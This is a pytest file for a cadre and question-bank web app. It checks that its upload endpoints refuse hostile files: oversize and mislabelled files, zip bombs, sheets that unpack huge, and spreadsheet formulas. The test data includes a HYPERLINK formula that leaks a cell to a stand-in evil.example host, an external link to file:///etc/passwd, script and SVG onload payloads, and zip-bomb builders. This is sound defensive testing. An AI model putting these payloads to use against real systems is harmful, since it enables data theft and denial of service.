"""Hostile files sent to every upload: the cadre import, the question import (xlsx, csv, GIFT, Aiken), a training
class's enrolment list, question images and the exam file. Too large, the wrong type behind the right extension,
a zip bomb, formulas and external links: each is refused with a message (or imported as inert text) and nothing is
stored; formula text never goes out again as a live formula."""

import io
import random
import re
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._reader import WorkSheetParser
from sqlalchemy import func, select

from accounts.models import Cadre, Unit, User
from archive.models import TrainingEnrolment
from core import spreadsheets
from exam.models import Exam
from question_bank.formats import table
from question_bank.models import Question
from tests.archive.test_archive import _class
from tests.factories import confirmation, make_bank, make_cadre, make_unit, workbook_bytes

CADRE_HEADERS = ["工号", "姓名", "性别", "出生日期", "单位", "职级", "职务", "学历", "政治面貌", "手机号码"]
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


def cadre_row(number="QE7001", name="李文博"):
    return [number, name, "男", date(1994, 3, 2), "QSZ", "副科级", "副镇长", "大学本科", "中共党员", "13900001111"]


def question_row(stem="题干______"):
    cells = dict.fromkeys(table.HEADERS, "")
    cells.update({"题型": "单选题", "题干": stem, "答案": "A", "选项A": "甲", "选项B": "乙"})
    return [cells[h] for h in table.HEADERS]


@pytest.fixture
def desk(client, auth, db):
    """An organisation-department admin signed in; a town (code QSZ) with one cadre, a bank and a training class."""
    town = make_unit("青山镇", code="QSZ", kind="town")
    member = make_cadre(unit=town)
    bank = make_bank()
    admin = auth.login_as("org_admin")
    klass = _class(admin, town, code="PXU")
    db.session.commit()
    return {"bank": bank.code, "class": klass.code, "member": member.employee_number}


def _stored(db, app):
    """What an upload could leave behind: rows, and files waiting for a confirmation or kept as images."""
    db.session.expire_all()
    counts = tuple(
        db.session.scalar(select(func.count(m.id))) for m in (User, Cadre, Question, Exam, TrainingEnrolment)
    )
    from pathlib import Path

    instance = Path(app.instance_path)
    files = sorted(str(p.relative_to(instance)) for p in instance.rglob("*") if p.is_file() and "secret" not in p.name)
    return counts, files


def _post_multipart(client, url, fields, **kwargs):
    """A multipart POST encoded in memory (the test client spools a large body to a temporary file that nobody
    closes when the app refuses it unread)."""
    from werkzeug.test import encode_multipart

    boundary, body = encode_multipart({"csrf_token": client.csrf_token(), **fields})
    return client.post(url, data=body, content_type=f"multipart/form-data; boundary={boundary}", **kwargs)


def _upload(client, d, endpoint, data, filename):
    """Send `data` as `filename` to one upload; returns (status, text of the page it ends on, or the JSON
    error's message)."""
    from werkzeug.datastructures import FileStorage

    file = FileStorage(io.BytesIO(data), filename=filename)
    url, fields = {
        "cadres": ("/admin/cadres/import", {"file": file}),
        "questions": (f"/banks/{d['bank']}/import", {"file": file, "status": "draft"}),
        "enrol": (f"/archive/classes/{d['class']}/enrol", {"mode": "xlsx", "file": file}),
        "image": ("/banks/images", {"image": file}),
        "exam": ("/exams/import", {"file": file}),
    }[endpoint]
    response = _post_multipart(client, url, fields, follow_redirects=True, headers={"Accept": "application/json"}
                               if endpoint == "image" else {})  # fmt: skip
    body = response.get_json(silent=True)
    return response.status_code, body["error"]["message"] if body else response.get_data(as_text=True)


XLSX_ENDPOINTS = ("cadres", "questions", "enrol")
ALL_ENDPOINTS = (*XLSX_ENDPOINTS, "image", "exam")


def test_an_oversize_file_is_refused_before_it_is_read(client, db, app, desk):
    """Anything over MAX_CONTENT_LENGTH (16 MB) is a 413 with a message, at every upload."""
    before = _stored(db, app)
    big = b"\0" * (app.config["MAX_CONTENT_LENGTH"] + 1)
    for endpoint in ALL_ENDPOINTS:
        status, text = _upload(client, desk, endpoint, big, "big.xlsx" if endpoint != "image" else "big.png")
        assert status == 413, (endpoint, status)
        assert "上传的文件过大" in text, endpoint
    assert _stored(db, app) == before


def test_an_image_over_2_mb_is_refused(client, db, app, desk):
    before = _stored(db, app)
    status, text = _upload(client, desk, "image", PNG + b"\0" * (2 * 1024 * 1024), "photo.png")
    assert status == 400 and "图片大小超过2 MB" in text
    assert _stored(db, app) == before


@pytest.mark.parametrize(
    ("endpoint", "filename", "data", "message"),
    [
        ("cadres", "cadres.xlsx", PNG, "不是有效的.xlsx"),
        ("cadres", "cadres.xlsx", HTML, "不是有效的.xlsx"),
        ("questions", "questions.xlsx", PNG, "不是有效的.xlsx"),
        ("questions", "questions.xlsx", HTML, "不是有效的.xlsx"),
        ("enrol", "list.xlsx", HTML, "不是有效的.xlsx"),
        ("image", "photo.png", HTML, "仅支持PNG"),
        ("image", "photo.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "仅支持PNG"),
        ("exam", "exam.json", HTML, "请选择考试文件"),
        ("exam", "exam.json", PNG, "请选择考试文件"),
    ],
)
def test_the_wrong_type_behind_the_right_extension_is_refused(client, db, app, desk, endpoint, filename, data,
                                                             message):  # fmt: skip
    before = _stored(db, app)
    status, text = _upload(client, desk, endpoint, data, filename)
    assert status in (200, 400) and message in text, (endpoint, status)
    assert _stored(db, app) == before


def test_a_zip_that_is_no_workbook_is_refused(client, db, app, desk):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("[Content_Types].xml", "<Types/>")
    before = _stored(db, app)
    for endpoint in XLSX_ENDPOINTS:
        status, text = _upload(client, desk, endpoint, buf.getvalue(), "looks-right.xlsx")
        assert status == 200 and "不是有效的.xlsx" in text, endpoint
    assert _stored(db, app) == before


def test_text_imports_refuse_html_in_their_place(client, db, app, desk):
    """An HTML page named .csv, .gift or .txt (Aiken) is not a question file: refused with a reason, nothing kept."""
    before = _stored(db, app)
    for filename in ("questions.csv", "questions.gift", "questions.aiken"):
        status, text = _upload(client, desk, "questions", HTML, filename)
        assert status == 200 and "文件未导入" in text, filename
    assert _stored(db, app) == before


def test_text_imports_refuse_nul_characters(client, db, app, desk):
    """A NUL in a question file (UTF-16 saved by mistake, or a binary renamed) names its line and stores nothing:
    PostgreSQL cannot store a NUL, and a stray one must not become a 500 at the commit."""
    before = _stored(db, app)
    files = {
        "questions.csv": ",".join(table.HEADERS).encode() + b"\n\xe5\x8d\x95\xe9\x80\x89\xe9\xa2\x98,a\x00b,A\n",
        "questions.gift": b"::q1:: stem\x00 {=yes ~no}\n",
        "questions.aiken": b"Stem\x00?\nA. yes\nB. no\nANSWER: A\n",
    }
    for filename, data in files.items():
        status, text = _upload(client, desk, "questions", data, filename)
        assert status == 200 and "NUL" in text and "文件未导入" in text, (filename, text[-500:])
    assert _stored(db, app) == before


@pytest.fixture(scope="module")
def zip_bomb() -> bytes:
    """A valid-looking .xlsx whose sheet unpacks to 210 MB of white space (about 200 KB packed). Written in
    chunks: the test never holds the unpacked sheet in memory."""
    good = zipfile.ZipFile(io.BytesIO(workbook_bytes(CADRE_HEADERS, [cadre_row()])))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for item in good.infolist():
            if not item.filename.endswith("sheet1.xml"):
                out.writestr(item, good.read(item))
                continue
            sheet = good.read(item)
            head, tail = sheet.split(b"<sheetData>", 1)
            with out.open(item.filename, "w", force_zip64=True) as member:
                member.write(head + b"<sheetData>")
                chunk = b" " * (1024 * 1024)
                for _ in range(210):
                    member.write(chunk)
                member.write(tail)
    return buf.getvalue()


def test_a_zip_bomb_named_xlsx_is_refused_without_being_unpacked(client, db, app, desk, zip_bomb, monkeypatch):
    """Judged by the sizes its members declare, before anything is inflated: the bytes the app unpacks are counted
    (zipfile's one decompressing step), and stay far below the bomb's 210 MB."""
    assert len(zip_bomb) < 2 * 1024 * 1024  # small on the wire, 210 MB unpacked
    inflated = []
    real_read1 = zipfile.ZipExtFile._read1

    def counting_read1(self, n):
        data = real_read1(self, n)
        inflated.append(len(data))
        return data

    monkeypatch.setattr(zipfile.ZipExtFile, "_read1", counting_read1)
    before = _stored(db, app)
    for endpoint in XLSX_ENDPOINTS:
        inflated.clear()
        status, text = _upload(client, desk, endpoint, zip_bomb, "bomb.xlsx")
        assert status == 200 and "工作簿解压后过大" in text, endpoint
        assert sum(inflated) < 1024 * 1024, (endpoint, sum(inflated))
    assert _stored(db, app) == before


def _with_external_link(data: bytes) -> bytes:
    """The workbook with an external link part (to a file on the server) wired into the workbook."""
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for item in src.infolist():
            body = src.read(item)
            if item.filename == "xl/_rels/workbook.xml.rels":
                body = body.replace(
                    b"</Relationships>",
                    (
                        b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                        b'relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>'
                    ),
                )
            elif item.filename == "xl/workbook.xml":
                body = body.replace(
                    b"</workbook>",
                    b'<externalReferences><externalReference r:id="rIdX1"/></externalReferences></workbook>',
                )
            elif item.filename == "[Content_Types].xml":
                body = body.replace(
                    b"</Types>",
                    (
                        b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
                        b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>'
                    ),
                )
            out.writestr(item, body)
        out.writestr(
            "xl/externalLinks/externalLink1.xml",
            (
                '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>'
                "</externalLink>"
            ),
        )
        out.writestr(
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                'externalLinkPath" Target="file:///etc/passwd" TargetMode="External"/></Relationships>'
            ),
        )
    return buf.getvalue()  # fmt: skip


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&B2,"点此")', "=1+1", "='[other.xlsx]Sheet1'!A1", "=[1]Sheet1!A1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_and_external_links_are_refused_and_nothing_is_kept(client, db, app, desk, formula):
    """A formula anywhere, even in one row of many good ones, refuses the whole file with the cell named; the
    external link part is never followed."""
    files = {
        "cadres": workbook_bytes(CADRE_HEADERS, [cadre_row(f"QE70{i:02d}") for i in range(10)]
                            + [cadre_row("QE7099", formula)]),
        "questions": workbook_bytes(table.HEADERS, [question_row(f"第{i}题______") for i in range(10)]
                               + [question_row(formula)]),
        "enrol": workbook_bytes(["工号"], [[desk["member"]], [formula]]),
    }  # fmt: skip
    before = _stored(db, app)
    for endpoint, data in files.items():
        status, text = _upload(client, desk, endpoint, _with_external_link(data), "links.xlsx")
        assert status == 200 and "不支持公式" in text, endpoint
        assert re.search(r"第1[23]行|第3行", text), endpoint  # the row of the formula is named
    assert _stored(db, app) == before


def _holds_text(xlsx: bytes, text: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return any(text in archive.read(name) for name in archive.namelist() if name.startswith("xl/"))


def _live_formulas(xlsx: bytes) -> list[str]:
    """The formulas of every sheet of a workbook (what Excel would evaluate), read from its XML."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return [f for name in archive.namelist() if name.startswith("xl/worksheets/")
                for f in re.findall(rb"<f[ >].*?</f>|<f/>", archive.read(name))]  # fmt: skip


def test_formula_text_imported_as_text_never_goes_out_as_a_formula(client, db, app, desk):
    """A CSV cannot hold a formula, only text that looks like one: it is imported as text, and the bank's exports
    write it as a text cell (xlsx) or with a leading apostrophe (csv)."""
    stem = '=HYPERLINK("http://evil.example","点此")______'
    csv_data = ("\ufeff" + ",".join(table.HEADERS) + "\r\n" + ",".join(
        '"' + v.replace('"', '""') + '"' for v in question_row(stem)) + "\r\n").encode()  # fmt: skip
    status, text = _upload(client, desk, "questions", csv_data, "q.csv")
    assert status == 200 and "道试题待导入" in text, re.findall(r"<li>[^<]*</li>", text)
    assert client.post_form(f"/banks/{desk['bank']}/import/commit", confirmation(text)).status_code == 302
    assert db.session.scalar(select(func.count(Question.id))) == 1
    xlsx = client.get(f"/banks/{desk['bank']}/export?format=xlsx").data
    assert _live_formulas(xlsx) == [] and _holds_text(xlsx, b"HYPERLINK")
    csv_text = client.get(f"/banks/{desk['bank']}/export?format=csv").data.decode("utf-8-sig")
    assert "'=HYPERLINK" in csv_text and ",=HYPERLINK" not in csv_text and '"=HYPERLINK' not in csv_text


def test_a_name_that_looks_like_a_formula_stays_text_in_every_workbook_out(client, db, app, desk):
    """A cadre imported from a text cell "=1+1…" (not a formula) keeps it as text: the credentials sheet and the
    archive roster write it as text."""
    name = '=HYPERLINK("http://evil.example","x")'
    wb = Workbook()
    wb.active.append(CADRE_HEADERS)
    wb.active.append(cadre_row("QE7200", name))
    wb.active["B2"].data_type = "s"  # a text cell, as Excel keeps text typed after an apostrophe
    buf = io.BytesIO()
    wb.save(buf)
    status, text = _upload(client, desk, "cadres", buf.getvalue(), "names.xlsx")
    assert status == 200 and "不支持公式" not in text, text[:2000]
    done = client.post_form("/admin/cadres/import/commit", confirmation(text))
    assert done.status_code == 200
    assert db.session.scalar(select(User.name).where(User.username == "QE7200")) == name
    password = re.search(r'name="password" value="([^"]+)"', done.get_data(as_text=True)).group(1)
    # The credentials sheet formats what the page posts back: anything an attacker puts there stays text too.
    cells = ["=1+1", "+1+1", "-1+1", "@SUM(1,1)"]
    credentials = client.post_form("/admin/cadres/import/credentials", {
        "number": ["QE7200", *cells], "name": [name, *cells], "unit": cells + ["x"], "password": [password, *cells]
    }).data  # fmt: skip
    assert _live_formulas(credentials) == []

    ws = load_workbook(io.BytesIO(credentials)).active
    assert {c.data_type for row in ws.iter_rows(min_row=2) for c in row if c.value} == {"s"}
    roster = client.get("/archive/overview/roster.xlsx").data
    assert _live_formulas(roster) == [] and _holds_text(roster, b"HYPERLINK")
    unit = db.session.scalar(select(Unit).where(Unit.code == "QSZ"))
    assert unit is not None


# ---------------------------------------------------------------- sheets that stay under the zip limits but unpack huge


def _with_rows(rows_xml, shared_strings: list[str] | None = None) -> bytes:
    """The one-row cadre workbook with more rows written into its sheet (chunk by chunk, from `rows_xml`, an
    iterable of bytes), and optionally a shared-string table. Its declared dimension (A1:J2) is left as it was: a
    lie once rows are added."""
    good = zipfile.ZipFile(io.BytesIO(workbook_bytes(CADRE_HEADERS, [cadre_row()])))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for item in good.infolist():
            body = good.read(item)
            if item.filename == "[Content_Types].xml" and shared_strings is not None:
                body = body.replace(b"</Types>", (
                    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                    b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>'))  # fmt: skip
            if not item.filename.endswith("sheet1.xml"):
                out.writestr(item.filename, body)
                continue
            head, tail = body.split(b"</sheetData>", 1)
            with out.open(item.filename, "w", force_zip64=True) as member:
                member.write(head)
                for chunk in rows_xml:
                    member.write(chunk)
                member.write(b"</sheetData>" + tail)
        if shared_strings is not None:
            items = "".join(f"<si><t>{s}</t></si>" for s in shared_strings)
            out.writestr("xl/sharedStrings.xml", (
                '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                f'count="{len(shared_strings)}" uniqueCount="{len(shared_strings)}">{items}</sst>'))  # fmt: skip
    return buf.getvalue()


def _text_rows(first: int, count: int, columns: int, chars: int):
    """Rows of inline text cells: `chars` times 党 then 16 random hex digits, so that it packs about 150 to 1 (the
    reviewer's file: 1.24 MB that unpacks to 190 MB, under the ratio limit)."""
    rnd = random.Random(18)
    for r in range(first, first + count):
        cells = "".join(f'<c r="{get_column_letter(c)}{r}" t="inlineStr"><is><t>{"党" * chars}'
                        f"{rnd.getrandbits(64):016x}</t></is></c>" for c in range(1, columns + 1))  # fmt: skip
        yield f'<row r="{r}">{cells}</row>'.encode()


@pytest.fixture(scope="module")
def text_bomb() -> bytes:
    """1000 rows of 64 cells of 1016 characters: 65 million characters, within every row, column and cell limit."""
    return _with_rows(_text_rows(3, 1000, 64, 1000))


@pytest.fixture
def work_done(monkeypatch):
    """What the app spent on an upload: the bytes it inflated and the cells (and rows) of the sheet it parsed."""
    spent = {"inflated": 0, "cells": 0, "rows": set()}
    real_read1, real_parse_cell = zipfile.ZipExtFile._read1, WorkSheetParser.parse_cell

    def counting_read1(self, n):
        data = real_read1(self, n)
        spent["inflated"] += len(data)
        return data

    def counting_parse_cell(self, element):
        cell = real_parse_cell(self, element)
        spent["cells"] += 1
        spent["rows"].add(cell["row"])
        return cell

    monkeypatch.setattr(zipfile.ZipExtFile, "_read1", counting_read1)
    monkeypatch.setattr(WorkSheetParser, "parse_cell", counting_parse_cell)

    def reset():
        spent.update(inflated=0, cells=0, rows=set())
        return spent

    return reset


def _unpacked(data: bytes) -> tuple[int, float]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        infos = archive.infolist()
    size = sum(i.file_size for i in infos)
    return size, size / sum(i.compress_size for i in infos)


def test_a_workbook_that_unpacks_huge_under_the_zip_limits_is_refused_after_bounded_work(
    client, db, app, desk, text_bomb, work_done
):
    """The reviewer's file (about 1.25 MB that unpacks to 196 MB, under the size and ratio limits) used to cost
    seconds at every xlsx import. It streams until the sheet's text passes MAX_SHEET_CHARS, then stops: far less
    than its content is inflated or parsed, and nothing is kept."""
    size, ratio = _unpacked(text_bomb)
    assert len(text_bomb) < 2 * 1024 * 1024 and 150 * 1024 * 1024 < size < spreadsheets.MAX_UNZIPPED_BYTES
    assert ratio < spreadsheets.MAX_COMPRESSION_RATIO
    before = _stored(db, app)
    for endpoint in XLSX_ENDPOINTS:
        spent = work_done()
        status, text = _upload(client, desk, endpoint, text_bomb, "huge.xlsx")
        assert status == 200 and "工作表中的文字过多（最多20000000个字符）" in text, (endpoint, text[-3000:])
        # 65 million characters in 64,000 cells; the reading stops after about 20 million of them.
        assert spent["cells"] <= spreadsheets.MAX_SHEET_CHARS // 1000 + 1, (endpoint, spent["cells"])
        assert spent["inflated"] < size // 3, (endpoint, spent["inflated"])
    assert _stored(db, app) == before


def test_a_few_rows_of_thousands_of_columns_are_refused_at_the_first_column_too_far(client, db, app, desk,
                                                                                    work_done):  # fmt: skip
    """Values beyond column 64 are refused with the cell named, as soon as the first one is read."""
    wide = _with_rows(_text_rows(3, 3, 16_000, 1))
    before = _stored(db, app)
    for endpoint in XLSX_ENDPOINTS:
        spent = work_done()
        status, text = _upload(client, desk, endpoint, wide, "wide.xlsx")
        assert status == 200 and "第3行 BM列：工作表最多64列" in text, (endpoint, text[-3000:])
        assert spent["cells"] <= 2 * 10 + 65, (endpoint, spent["cells"])  # the two rows of the template, then 65
    assert _stored(db, app) == before


@pytest.mark.parametrize(("endpoint", "limit"), [("cadres", 64 * 1001), ("enrol", 64 * 5001), ("questions", 400_000)])
def test_empty_cells_count_towards_the_cell_limit(client, db, app, desk, work_done, endpoint, limit):
    """Cells without a value (styled, say) still cost work: more than 64 for each row the import takes (at most
    MAX_SHEET_CELLS) are refused, and the reading stops there."""
    rows = (f'<row r="{r}">'.encode() + b"".join(f'<c r="{get_column_letter(c)}{r}" s="0"/>'.encode()
            for c in range(1, 501)) + b"</row>" for r in range(3, 1001))  # fmt: skip
    empty = _with_rows(rows)
    before = _stored(db, app)
    spent = work_done()
    status, text = _upload(client, desk, endpoint, empty, "empty.xlsx")
    assert status == 200 and f"工作表的单元格过多（最多{limit}个）" in text, text[-3000:]
    assert spent["cells"] <= limit
    assert _stored(db, app) == before


def test_rows_are_counted_as_they_stream_not_taken_from_the_declared_dimension(client, db, app, desk, work_done):
    """The sheet declares A1:J2 and holds 1,200 rows: the cadre import (at most 1,000) stops at row 1,002; a row
    numbered 1,048,576 is refused at once, without a million empty rows made up before it."""
    before = _stored(db, app)
    for rows, last_row in (
        (_text_rows(3, 1200, 1, 2), 1001),
        ([b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>'], 2),
    ):
        spent = work_done()
        status, text = _upload(client, desk, "cadres", _with_rows(rows), "rows.xlsx")
        assert status == 200 and "行数过多（最多1000行）" in text, text[-3000:]
        assert max(spent["rows"]) == last_row and len(spent["rows"]) <= 1001
    assert _stored(db, app) == before


def test_a_sheet_of_anything_but_cells_is_refused_once_past_the_element_limit(client, db, app, desk, work_done):
    """Elements that are no cells (ignored by the reader, but parsed all the same) count towards the work too: four
    for each cell the import may read (the cadre import: 64 cells in each of 1,001 rows)."""
    rnd = random.Random(18)
    junk = (b"".join(f'<x a="{rnd.getrandbits(32):08x}"/>'.encode() for _i in range(10_000)) for _j in range(30))
    data = _with_rows(junk)
    before = _stored(db, app)
    spent = work_done()
    status, text = _upload(client, desk, "cadres", data, "junk.xlsx")
    assert status == 200 and "工作表结构过于复杂，无法读取（超过256256个XML元素）" in text, text[-3000:]
    assert spent["inflated"] < _unpacked(data)[0], spent["inflated"]
    assert _stored(db, app) == before


def test_a_part_other_than_the_sheets_over_16_mb_is_refused_before_it_is_parsed(client, db, app, desk, work_done):
    """openpyxl parses the workbook, styles and theme whole: a styles part of 18 MB (under the size and ratio
    limits) is refused on its declared size, before anything is inflated."""
    good = zipfile.ZipFile(io.BytesIO(workbook_bytes(CADRE_HEADERS, [cadre_row()])))
    rnd = random.Random(18)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for item in good.infolist():
            body = good.read(item)
            if item.filename != "xl/styles.xml":
                out.writestr(item.filename, body)
                continue
            with out.open(item.filename, "w", force_zip64=True) as member:
                member.write(body.replace(b"</styleSheet>", b"<!--"))
                for _i in range(20_000):  # 916 bytes each: 18 MB
                    member.write(("样" * 300 + f"{rnd.getrandbits(64):016x}").encode())
                member.write(b"--></styleSheet>")
    data = buf.getvalue()
    assert _unpacked(data)[1] < spreadsheets.MAX_COMPRESSION_RATIO
    before = _stored(db, app)
    for endpoint in XLSX_ENDPOINTS:
        spent = work_done()
        status, text = _upload(client, desk, endpoint, data, "styles.xlsx")
        assert status == 200 and "工作簿解压后过大" in text, (endpoint, text[-3000:])
        assert spent["inflated"] < 1024 * 1024, (endpoint, spent["inflated"])
    assert _stored(db, app) == before


def test_a_cell_over_excels_own_limit_is_refused_with_its_place(client, db, app, desk):
    """A cell holds at most 32,767 characters (as in Excel): in the sheet (named by row and column) or in the
    shared-string table (read before any row, in streaming too)."""
    before = _stored(db, app)
    inline = _with_rows([f'<row r="3"><c r="C3" t="inlineStr"><is><t>{"长" * 40_000}</t></is></c></row>'.encode()])
    # The long string is used by no cell: reading the table is work enough.
    shared = _with_rows([b'<row r="3"><c r="B3" t="s"><v>0</v></c></row>'], shared_strings=["短", "长" * 40_000])
    for data, message in ((inline, "第3行 C列：一个单元格最多32767个字符"), (shared, "一个单元格最多32767个字符")):
        for endpoint in XLSX_ENDPOINTS:
            status, text = _upload(client, desk, endpoint, data, "long.xlsx")
            assert status == 200 and message in text and "长长" not in text, (endpoint, text[-3000:])
    assert _stored(db, app) == before


def test_a_legitimate_workbook_with_shared_strings_and_dates_still_imports(client, db, app, desk):
    """The bounded reader reads what openpyxl reads: shared strings, dates and numbers of an honest sheet."""
    rows = [
        b'<row r="3"><c r="A3" t="s"><v>0</v></c><c r="B3" t="s"><v>1</v></c>'
        b'<c r="C3" t="inlineStr"><is><t>\xe7\x94\xb7</t></is></c></row>'
    ]
    data = _with_rows(rows, shared_strings=["QE7002", "王晓明"])
    wb = load_workbook(io.BytesIO(data), read_only=True)
    assert [c.value for c in next(wb.active.iter_rows(min_row=3, max_row=3))][:2] == ["QE7002", "王晓明"]
    wb.close()
    cells, issues = spreadsheets.read_uploaded_sheet(data, 1000)
    assert issues == []
    assert [n for n, _v in cells] == [1, 2, 3] and cells[2][1][:3] == ["QE7002", "王晓明", "男"]
    assert cells[1][1][3] == datetime(1994, 3, 2)
